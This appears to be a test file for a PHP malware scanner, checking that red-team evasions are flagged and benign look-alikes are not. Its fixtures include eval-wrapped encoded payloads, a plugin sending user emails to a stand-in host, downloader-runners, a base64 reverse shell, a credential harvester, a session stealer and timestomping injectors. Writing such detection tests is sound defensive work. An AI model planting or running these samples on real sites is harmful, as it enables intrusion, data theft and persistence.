import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 38: forms red team S37B wrote to slip past session 37's rules (bench/redteam/README-corpus-s37.md,
// "Evasions"), written again by us as harmless pages, with look-alikes an application may hold. Nothing here is
// copied from a sample.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const b64 = (s: string) => Buffer.from(s).toString('base64');
/** A deterministic blob: base64 of bytes that do not compress. */
const blob = (n: number, seed: number) => Buffer.from(Array.from({ length: n }, (_, i) => (i * 131 + seed * 7 + ((i * i) >> 3)) % 256)).toString('base64');
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const PLUGIN_HEAD = `<?php\n/*\nPlugin Name: Speed Helper\n*/\n`;
const PLUGIN_REST =
  `add_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($actions) { unset($actions['deactivate']); return $actions; });\n` +
  `add_action('template_redirect', function () { if (!is_user_logged_in() && wp_remote_retrieve_body(wp_remote_get('https://geo.example.invalid/?ip=' . $_SERVER['REMOTE_ADDR'])) === 'go') { wp_redirect('https://ads.example.invalid/'); exit; } });\n` +
  `add_action('init', function () { $u = get_users(array('fields' => array('user_email'))); wp_remote_post('https://collect.example.invalid/u', array('body' => array('u' => wp_json_encode($u)))); });\n`;

const HARVEST = (pw: string, connect: string) =>
  `<?php\n$out = fopen('found.txt', 'a');\nforeach (glob('*.txt') as $file) {\n  $c = str_replace(' ', '', file_get_contents($file));\n  if (!preg_match("/DB_USER','(.+?)'/", $c, $u) || !preg_match("/${pw}','(.+?)'/", $c, $p) || !preg_match("/DB_HOST','(.+?)'/", $c, $h)) continue;\n  ${connect}\n  if ($ok) { fwrite($out, "$h[1];$u[1];$p[1]\\n"); }\n}\n`;

const INJECTOR = (touch: string) =>
  `<?php\n/*\nPlugin Name: Fast Pages\n*/\nregister_activation_hook(__FILE__, 'fp_dates');\nadd_action('wp_enqueue_scripts', function () { if (is_admin() || current_user_can('administrator')) return; wp_enqueue_script('fp', 'https://cdn.example.invalid/fp.js', array(), null, false); });\nfunction fp_dates() { foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator(plugin_dir_path(__FILE__), FilesystemIterator::SKIP_DOTS)) as $f) ${touch}; }\n`;

/** The eval wrappers red team S37A wrote past session 37's pattern (S37A's open evasions), each given a decoded blob. */
const WRAPPED: [string, string][] = [
  ['with a second statement before the eval', `function r($c) { $c = trim($c); @eval($c); }\nr(gzinflate(base64_decode($p)));`],
  ['of two parameters, running the second', `function r($k, $c) { if ($k !== 1) return; eval($c); }\nr(1, gzinflate(base64_decode($p)));`],
  ['after 64 other functions (S38R-31)', `${Array.from({ length: 70 }, (_, i) => `function f${i}($a) { return $a + ${i}; }`).join('\n')}\nfunction r($c) { eval($c); }\nr(gzinflate(base64_decode($p)));`],
  ['whose body holds a kilobyte of set-up before the eval (S38R-30)', `function r($c) {\n${'  @ini_set("max_execution_time", 0); @set_time_limit(0); @ignore_user_abort(true);\n'.repeat(10)}  eval($c);\n}\nr(gzinflate(base64_decode($p)));`],
  ['called by its namespaced name', `namespace App\\Util;\nfunction r($c) { eval($c); }\n\\App\\Util\\r(gzinflate(base64_decode($p)));`],
  ['in a closure with a use list', `$k = 1;\n$r = function ($c) use ($k) { if ($k) { eval($c); } };\n$r(gzinflate(base64_decode($p)));`],
  ['as a method of a class', `class W { public function go($c) { eval($c); } }\n$w = new W();\n$w->go(gzinflate(base64_decode($p)));`],
  ['given to call_user_func with its object', `class W { public function go($c) { eval($c); } }\ncall_user_func([new W(), 'go'], gzinflate(base64_decode($p)));`],
  ['given to call_user_func_array (red team S38R)', `function r($c) { eval($c); }\ncall_user_func_array('r', array(gzinflate(base64_decode($p))));`],
  ['given to register_shutdown_function', `function r($c) { eval($c); }\nregister_shutdown_function('r', gzinflate(base64_decode($p)));`],
  ['called through a variable holding its name', `function r($c) { eval($c); }\n$f = 'r';\n$f(gzinflate(base64_decode($p)));`],
  ['running its parameter joined to ";"', `function r($c) { eval($c . ';'); }\nr(gzinflate(base64_decode($p)));`],
  ['running its parameter in brackets, through a local copy', `function r($c) { $x = $c; eval(($x)); }\nr(gzinflate(base64_decode($p)));`],
  ['after eight decoy calls of itself', `function r($c) { eval($c); }\n${Array.from({ length: 9 }, (_, i) => `r('$v${i} = ${i};');`).join('\n')}\nr(gzinflate(base64_decode($p)));`],
];

/** A blob written in the wrapper's call, over argsAt's 4,000 characters (S38R-29). */
const INLINE = `<?php\nfunction r($c) { eval($c); }\nr(gzinflate(base64_decode('${blob(6000, 60)}')));\n`;

const MALICIOUS: [string, string, string][] = [
  ['an eval wrapper given a blob of 8 KB written in its call (S38R-29)', '/var/www/html/w-inline.php', INLINE],
  ...WRAPPED.map(([how, code], i): [string, string, string] => [`an eval wrapper ${how}, given a blob gzinflate and base64_decode open`, `/var/www/html/w${i}.php`, `<?php\n$p = '${blob(3000, 10 + i)}';\n${code}\n`]),
  [
    'a page running what it decrypts from the request with eval("?>" . $code), as a template engine runs its compiled page',
    '/var/www/html/g2.php',
    `<?php\n$key = "-----BEGIN PUBLIC KEY-----\\nMIGf...\\n-----END PUBLIC KEY-----";\n$code = '';\nforeach (explode('|', $_POST['p'] ?? '') as $v) { if (openssl_public_decrypt(base64_decode($v), $d, $key)) $code .= $d; }\neval("?>" . $code);\n`,
  ],
  [
    'a page killing rival miners, downloading a program from a bare address and running it under nice',
    '/var/www/html/f2.php',
    `<?php\nfunction get($u, $to) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($ch); file_put_contents('./' . $to, $d); }\nget("http://192.0.2.10/worker", "worker");\necho shell_exec("chmod +x worker && nice -n 19 ./worker");\n`,
  ],
  [
    'a page downloading a program from a bare address by stream_copy_to_stream, making it executable and running it',
    '/var/www/html/f3.php',
    `<?php\n$in = fopen("http://192.0.2.10/worker", "rb");\n$out = fopen(__DIR__ . "/worker", "wb");\nstream_copy_to_stream($in, $out);\nfclose($out);\necho shell_exec("chmod 755 worker; ./worker");\n`,
  ],
  ['a WordPress plugin hiding itself by a key it keeps in a global, removing its Deactivate link, sending its users away and redirecting its visitors', '/var/www/html/wp-content/plugins/x/x.php', `${PLUGIN_HEAD}$GLOBALS['sh_me'] = plugin_basename(__FILE__);\nadd_filter('all_plugins', function ($plugins) { unset($plugins[$GLOBALS['sh_me']]); return $plugins; });\n${PLUGIN_REST}`],
  ...['nice -n19 ./worker', 'timeout -s KILL 3600 ./worker', 'LD_LIBRARY_PATH=. nohup ./worker', 'ionice -c2 -n7 nice ./worker'].map((run, i): [string, string, string] => [
    `a page downloading a program from a bare address, writing it with fprintf, and running it as \`${run}\` (red team S38R)`,
    `/var/www/html/f4${i}.php`,
    `<?php\n$d = file_get_contents("http://192.0.2.10/worker");\n$o = fopen(__DIR__ . "/worker", "wb"); fprintf($o, "%s", $d); fclose($o);\necho shell_exec("chmod +x worker && ${run} &");\n`,
  ]),
  [
    'a register_globals command page saving its field, clearing it for a "cd" and putting it back (held-out set H21\'s MyShell)',
    '/var/www/html/my.php',
    `<?php\n$cdPos = strpos($command, "cd ");\nif ($cdPos !== false) { chdir(trim(substr($command, 3))); $commandBk = $command; $command = ""; }\nif ($command) { system($command . " 2>&1"); }\nif ($commandBk) $command = $commandBk;\n?>\n<form method="post"><input type="text" name="command" value="<?php echo htmlspecialchars($command); ?>"></form>\n`,
  ],
  [
    'a backup script carrying a beacon that mails its referrer, document root and script path under a random "sh-" subject (held-out sets H21, H22)',
    '/var/www/html/backup.php',
    `<?php\nheader('Content-Type: application/octet-stream'); $n = rand(1,99999); $subj = "sh-$n"; $a = $_SERVER['HTTP_REFERER']; $b = $_SERVER['DOCUMENT_ROOT']; $d = $_SERVER['SCRIPT_FILENAME']; $to = "someone.example@gmail.com"; $m = "$a\\n$b\\n$d"; mail($to, $subj, $m, "From: $to");\necho 'backup';\n`,
  ],
  [
    'a mailer page also mailing its document root and script path to a free-mail address kept in a variable (held-out set H21)',
    '/var/www/html/mailer.php',
    `<?php\nforeach (explode("\\n", $_POST['list'] ?? '') as $to) { mail(trim($to), $_POST['subject'] ?? '', $_POST['body'] ?? ''); }\n$m = $_SERVER['HTTP_HOST'] . "\\n" . $_SERVER['DOCUMENT_ROOT'] . "\\n" . $_SERVER['SCRIPT_FILENAME'];\n$to = "someone.example@gmail.com"; mail($to, "here", $m);\n`,
  ],
  [
    'a page reading the file the request names through compress.zlib://, around safe_mode (held-out set H22)',
    '/var/www/html/sm.php',
    `<?php\nif (ini_get('safe_mode')) echo 'safe mode is on';\n$file = $_GET['file'] ?? $_POST['file'] ?? '';\n$tmp = tempnam('/tmp', 'x');\nif (copy("compress.zlib://" . $file, $tmp)) { echo htmlspecialchars(file_get_contents($tmp)); unlink($tmp); }\n`,
  ],
  [
    'a page keeping a Perl back-connect script and its C twin in base64, with no decoder in the file (held-out set H22\'s GFS Web-Shell)',
    '/var/www/html/bc.php',
    `<?php\n$back_connect_pl = "${b64('#!/usr/bin/perl\nuse Socket;\n$h = $ARGV[0]; $p = $ARGV[1];\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));\nif (connect(S, sockaddr_in($p, inet_aton($h)))) { open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i"); }\n')}";\n$back_connect_c = "${b64('#include <stdio.h>\n#include <sys/socket.h>\nint main(int c, char **v) { int fd = socket(2, 1, 0); dup2(fd, 0); dup2(fd, 1); execl("/bin/sh", "sh", "-i", 0); }\n')}";\necho 'ok';\n`,
  ],
];

const SUSPICIOUS: [string, string, string][] = [
  ['a harvester matching DB_PASS, a name some applications use, and logging in with mysqli_connect', '/var/www/html/h1.php', HARVEST('DB_PASS', '$ok = @mysqli_connect($h[1], $u[1], $p[1]);')],
  ['a theme header printing what a server sends, the base64 of its address starting with a space', '/var/www/html/wp-content/themes/t/header.php', `<html><body>\n<?php echo file_get_contents(base64_decode(' ${b64('https://links.example.invalid/backlinks.php')}')); ?>\n`],
  ['a theme header printing what a server sends, its address in capitals hidden in base64', '/var/www/html/wp-content/themes/t/footer.php', `<html><body>\n<?php echo file_get_contents(base64_decode('${b64('HTTPS://LINKS.EXAMPLE.INVALID/b.php')}')); ?>\n`],
  ['a theme header printing what a server sends, its address hidden in hex of capitals', '/var/www/html/wp-content/themes/t/sidebar.php', `<html><body>\n<?php echo file_get_contents(hex2bin('${Buffer.from('HTTP://links.example.invalid/b.php').toString('hex')}')); ?>\n`],
  ['a theme footer printing what a server sends with <?= , its address hidden in base64', '/var/www/html/wp-content/themes/t/footer2.php', `<html><body>\n<?= file_get_contents(base64_decode('${b64('https://links.example.invalid/f.php')}')) ?>\n`],
  ['an injector setting its files 90 days back by time() - 90 * DAY_IN_SECONDS', '/var/www/html/wp-content/plugins/fast/c.php', INJECTOR('touch($f->getPathname(), time() - 90 * DAY_IN_SECONDS)')],
  ['a page listing /tmp and reading every sess_ file into itself (held-out set H21\'s session stealer)', '/var/www/html/s.php', `<?php\n$all = '';\nif ($d = @opendir('/tmp')) { while (($f = readdir($d)) !== false) { if (strpos($f, 'sess_') === 0) { $all .= file_get_contents("/tmp/$f"); } } closedir($d); }\necho '<pre>' . htmlspecialchars($all) . '</pre>';\n`],
  ['an injector setting its files 90 days back by time() - 60*60*24*90', '/var/www/html/wp-content/plugins/fast/a.php', INJECTOR('touch($f->getPathname(), time() - 60*60*24*90)')],
  ['an injector giving its files the time of wp-load.php', '/var/www/html/wp-content/plugins/fast/b.php', INJECTOR(`touch($f->getPathname(), filemtime(ABSPATH . 'wp-load.php'))`)],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a crash reporter mailing a developer\'s gmail the error with the document root and script path (red team S38S)',
    '/var/www/html/crash.php',
    `<?php\nset_exception_handler(function ($e) {\n  $to = "app.developer.example@gmail.com";\n  mail($to, 'Crash: ' . $e->getMessage(), $e . "\\n" . $_SERVER['DOCUMENT_ROOT'] . "\\n" . $_SERVER['SCRIPT_FILENAME']);\n});\n`,
  ],
  [
    'a web cron keeping the last command it ran and putting it back in its form (red team S38S)',
    '/var/www/html/cron.php',
    `<?php\n$jobs = array('cache' => 'php maintenance/clear.php', 'mail' => 'php maintenance/queue.php');\n$command = $jobs[$_POST['job'] ?? ''] ?? '';\n$last = $command; $command = '';\nif ($last !== '') { system(escapeshellcmd($last)); $command = $last; }\n?>\n<form method="post"><select name="job"><option>cache</option></select><input name="command" value="<?php echo htmlspecialchars($command); ?>" readonly></form>\n`,
  ],
  [
    'an installer keeping its post-install shell script in base64 and writing it out',
    '/var/www/html/installer.php',
    `<?php\n$post = "${b64('#!/bin/sh\nset -e\nmkdir -p /var/lib/app/cache\nchown www-data: /var/lib/app/cache\necho done\n')}";\nfile_put_contents(__DIR__ . '/post-install.sh', base64_decode($post));\necho 'run post-install.sh as root';\n`,
  ],
  [
    'a log viewer reading the rotated .gz log the request picks through compress.zlib://',
    '/var/www/html/logs.php',
    `<?php\n$logs = array('access.log.2.gz', 'error.log.2.gz');\n$pick = $logs[(int) ($_GET['i'] ?? 0)] ?? $logs[0];\n$path = '/var/log/app/' . $pick;\necho '<pre>' . htmlspecialchars(file_get_contents('compress.zlib://' . $path)) . '</pre>';\n`,
  ],
  [
    'a contact form mailing a literal free-mail address the visitor\'s message and the page it came from',
    '/var/www/html/contact.php',
    `<?php\nif (!empty($_POST['msg'])) { $to = "shop.owner.example@gmail.com"; mail($to, 'Contact', $_POST['msg'] . "\\nfrom " . $_SERVER['HTTP_REFERER']); }\n`,
  ],
  [
    'a session clean-up listing the session folder and removing old sess_ files',
    '/var/www/html/gc.php',
    `<?php\n$dir = session_save_path() ?: '/tmp';\nforeach (glob($dir . '/sess_*') as $f) { if (filemtime($f) < time() - 86400) unlink($f); }\n`,
  ],
  [
    'a cron script copying the company CLI from a build server\'s address and starting it with exec (S38R-16)',
    '/var/www/html/cron-deploy.php',
    `<?php\nif (PHP_SAPI !== 'cli') exit;\nfile_put_contents(__DIR__ . '/site-cli', file_get_contents('https://192.0.2.40/builds/site-cli'));\necho shell_exec('chmod +x site-cli && exec ./site-cli self-check');\n`,
  ],
  [
    'an agency plugin keeping its own basename in a constant and hiding a managed plugin another constant names (S38R-17)',
    '/var/www/html/wp-content/plugins/asm/asm.php',
    `${PLUGIN_HEAD}define('ASM_BASENAME', plugin_basename(__FILE__));\ndefine('ASM_MANAGED', 'client-tools/client-tools.php');\nadd_filter('all_plugins', function ($plugins) { unset($plugins[ASM_MANAGED]); return $plugins; });\n${PLUGIN_REST}`,
  ],
  [
    'a backup script writing each site\'s database login into a .my.cnf and testing it with new mysqli then real_connect (S38R-18)',
    '/var/www/html/backup-prep.php',
    `<?php\nforeach (glob('/var/www/*/wp-config.php') as $cfg) {\n  $c = file_get_contents($cfg);\n  if (!preg_match("/DB_USER',\\s*'(.+?)'/", $c, $u) || !preg_match("/DB_PASSWORD',\\s*'(.+?)'/", $c, $p) || !preg_match("/DB_HOST',\\s*'(.+?)'/", $c, $h)) continue;\n  $db = new mysqli; if (!@$db->real_connect($h[1], $u[1], $p[1])) continue;\n  file_put_contents(dirname($cfg) . '/.my.cnf', "[client]\\nuser=$u[1]\\npassword=$p[1]\\nhost=$h[1]\\n");\n}\n`,
  ],
  [
    'a precondition helper calling assert on what it is given, with base64 fixtures decoded in its calls (S38R-1)',
    '/var/www/html/tests/run.php',
    `<?php\nconst FIXTURE = '${blob(3000, 42)}';\nfunction ok($condition) { assert($condition); }\nforeach (glob(__DIR__ . '/cases/*.php') as $f) require_once $f;\nok(strlen(base64_decode(FIXTURE)) > 1000);\n`,
  ],
  [
    'a mail view running its compiled template with eval, given a decoded logo as its second argument (S38R-3)',
    '/var/www/html/mailview.php',
    `<?php\nclass MailView {\n  const LOGO = '${blob(3000, 43)}';\n  public function render($compiled, $vars) { extract($vars); eval($compiled); }\n}\n$v = new MailView();\n$v->render(file_get_contents(__DIR__ . '/mail.compiled.php'), array('logo' => base64_decode(MailView::LOGO)));\n`,
  ],
  [
    'a developer console evaluating lines, and another class\'s method of the same name given a decoded avatar (S38R-5)',
    '/var/www/html/worker.php',
    `<?php\nclass DevConsole { public static function run($line) { if (getenv('APP_DEBUG')) { eval($line); } } }\nclass ThumbJob { public function run($png) { return strlen($png); } }\nconst AVATAR = '${blob(3000, 44)}';\n$job = new ThumbJob();\n$job->run(base64_decode(AVATAR));\n`,
  ],
  [
    'a test helper asserting what a function gives, beside a base64 fixture image it decodes',
    '/var/www/html/tests/helper.php',
    `<?php\n$png = '${blob(3000, 40)}';\nfunction check($ok, $msg = '') { assert($ok); if (!$ok) echo $msg; }\ncheck(strlen(base64_decode($png)) > 100, 'image');\n`,
  ],
  [
    'a template class running a compiled page with eval("?>" . $code) and a base64 logo it prints',
    '/var/www/html/tpl3.php',
    `<?php\nclass View { public function show($code) { eval('?>' . $code); } }\n$logo = '${blob(3000, 41)}';\n(new View())->show(file_get_contents(__DIR__ . '/cache/page.php'));\necho '<img src="data:image/png;base64,' . $logo . '">';\n`,
  ],
  [
    'a template engine running its compiled page with eval("?>" . $code), and a session cookie decrypted with openssl_decrypt',
    '/var/www/html/tpl2.php',
    `<?php\n$sess = openssl_decrypt($_COOKIE['s'] ?? '', 'aes-256-gcm', getenv('APP_KEY'), 0, str_repeat("\\0", 12));\n$code = file_get_contents(__DIR__ . '/cache/page.php');\neval("?>" . $code);\n`,
  ],
  [
    'a deploy hook downloading a release over https, making its runner executable and starting it under nice',
    '/var/www/html/deploy.php',
    `<?php\nif (PHP_SAPI !== 'cli') exit;\nfile_put_contents(__DIR__ . '/runner', file_get_contents('https://releases.example.com/runner'));\necho shell_exec('chmod +x runner && nice -n 10 ./runner --version');\n`,
  ],
  [
    'a restore tool giving files their archive time, and a sitemap plugin adding its vendor script for visitors',
    '/var/www/html/wp-content/plugins/restore/restore.php',
    `<?php\n/*\nPlugin Name: Restore\n*/\nadd_action('wp_enqueue_scripts', function () { if (is_user_logged_in()) return; wp_enqueue_script('s', 'https://cdn.example.com/s.js'); });\nforeach (glob(__DIR__ . '/restore/*') as $src) { $to = ABSPATH . basename($src); copy($src, $to); touch($to, filemtime($src)); }\n`,
  ],
  [
    'a white-label plugin hiding the plugin a constant names, not itself',
    '/var/www/html/wp-content/plugins/wl2/wl2.php',
    `<?php\n/*\nPlugin Name: White Label\n*/\ndefine('WL_TARGET', 'other-plugin/other.php');\nadd_filter('all_plugins', function ($plugins) { unset($plugins[WL_TARGET]); return $plugins; });\n`,
  ],
];

describe('scan: red team S37B\'s evasions of session 37\'s rules (session 38)', () => {
  for (const [name, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 28));
  for (const [name, path, src] of SUSPICIOUS) {
    it(`flagged: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'clean', why(r));
    });
  }
  it('ran every suspicious form', () => assert.equal(SUSPICIOUS.length, 9));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 18));
  it('reads a function head followed by a megabyte of spaces in bounded time, and finds nothing there', () => {
    const r = scan(`<?php\n$p = '${blob(3000, 50)}';\n$x = gzinflate(base64_decode($p));\neval($y);\nfunction${' '.repeat(1_000_000)}(`, '/var/www/html/sp.php');
    assert.notEqual(r.verdict, 'malicious', why(r));
  });
});
